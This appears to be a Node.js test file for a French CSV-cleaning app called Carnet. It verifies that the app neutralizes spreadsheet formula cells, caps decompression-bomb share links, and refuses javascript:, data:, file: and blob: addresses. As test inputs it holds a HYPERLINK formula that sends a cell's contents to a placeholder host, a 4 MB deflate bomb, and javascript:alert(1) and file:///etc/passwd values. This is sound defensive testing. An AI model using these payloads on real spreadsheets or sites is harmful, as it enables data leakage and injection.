// What Carnet writes is safe to open: a text cell a spreadsheet would run as a formula is
// neutralized in the clean CSV and in the published ZIP, and the page says so. What it reads
// is bounded: a share link that inflates past its cap, an address that is not http(s).
import { test } from "node:test";
import assert from "node:assert/strict";
import { deflateRawSync } from "node:zlib";
import { CarnetPage } from "./carnet-page.mjs";
import { assertClean, useApp } from "./harness.mjs";

const app = useApp();

/** A commune file re-saved by a person, whose text cells start with formula characters. */
const formulas = {
  name: "associations_2024.csv",
  mimeType: "text/csv",
  buffer: Buffer.from(
    "CODGEO;NOM_ASSOCIATION;SOLDE\n" +
      "59522;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\";-3,5\n" +
      "59522;@SUM(1+1);12\n" +
      "59332;Club de Lannoy;4\n",
  ),
};

test("formula cells are neutralized in the clean CSV, numbers keep their sign, the page says it", async () => {
  const carnet = await CarnetPage.open(app.browser, app.url);
  const page = carnet.page;
  await carnet.pickCommune("sailly lez", /Sailly-lez-Lannoy \(59522\)/);
  await carnet.upload(formulas);
  await page.getByRole("button", { name: "Télécharger le CSV nettoyé" }).waitFor({ timeout: 60_000 });
  const notice = await page.locator(".neutralized").innerText();
  assert.match(notice, /^2 cellules commençaient par « = », « \+ », « - » ou « @ » : Carnet les a neutralisées pour les tableurs/);
  assert.match(notice, /colonne « NOM_ASSOCIATION »/);
  const csv = (await carnet.download("Télécharger le CSV nettoyé")).text.trimEnd().split("\n");
  assert.deepEqual(csv, [
    "CODGEO,NOM_ASSOCIATION,SOLDE",
    "59522,\"'=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\",-3.5",
    "59522,'@SUM(1+1),12",
  ]);
  await carnet.screenshot("97-formules-neutralisees", ".selection");
  assertClean(carnet);
  await page.context().close();
});

/** A share link whose fragment carries `bytes`, deflated and in base64url. */
function shareLink(base, bytes) {
  return `${base}#carnet=${deflateRawSync(bytes, { level: 9 }).toString("base64url")}`;
}

test("a share link that inflates past its cap, or is too long, opens Carnet without it, in words", async () => {
  // 4 MB of spaces deflate to about 4 KB: a bomb sent by e-mail.
  const bomb = shareLink(app.url, Buffer.alloc(4 * 1024 * 1024, 0x20));
  assert.ok(bomb.length < 8_000, `a link of ${bomb.length} characters`);
  const long = `${app.url}#carnet=${"A".repeat(40_000)}`;
  for (const [link, name] of [[bomb, "bombe"], [long, "trop-long"]]) {
    const started = Date.now();
    const carnet = await CarnetPage.open(app.browser, link);
    const page = carnet.page;
    await page.getByText("Ce lien est trop long ou abîmé : Carnet s’ouvre sans lui.").waitFor({ timeout: 5_000 });
    const elapsed = Date.now() - started;
    assert.ok(elapsed < 2_000, `${name}: the message took ${elapsed} ms`);
    // The app works as usual.
    await carnet.pickCommune("sailly lez", /Sailly-lez-Lannoy \(59522\)/);
    await carnet.upload(formulas);
    await page.getByRole("button", { name: "Télécharger le CSV nettoyé" }).waitFor({ timeout: 60_000 });
    await carnet.screenshot(`97-lien-${name}`);
    assertClean(carnet);
    await page.context().close();
  }
});

test("?src= opens only http(s) addresses: javascript:, data:, file: and blob: are refused in words", async () => {
  for (const [src, scheme] of [
    ["javascript:alert(1)", "javascript"],
    ["data:text/csv,CODGEO;MED20%0A59522;29440", "data"],
    ["file:///etc/passwd", "file"],
    ["blob:https://exemple.invalid/1234", "blob"],
  ]) {
    const carnet = await CarnetPage.open(app.browser, `${app.url}?src=${encodeURIComponent(src)}`);
    const page = carnet.page;
    const alert = page.getByRole("alert").filter({ hasText: "Carnet n’ouvre par lien que des adresses" });
    await alert.waitFor({ timeout: 5_000 });
    assert.match(await alert.innerText(), new RegExp(`commence par « ${scheme}: »\\. Rien n’a été ouvert\\.$`));
    assert.equal(await page.getByRole("button", { name: "Ouvrir ce fichier" }).count(), 0, "nothing to click");
    assertClean(carnet);
    await page.context().close();
  }
});
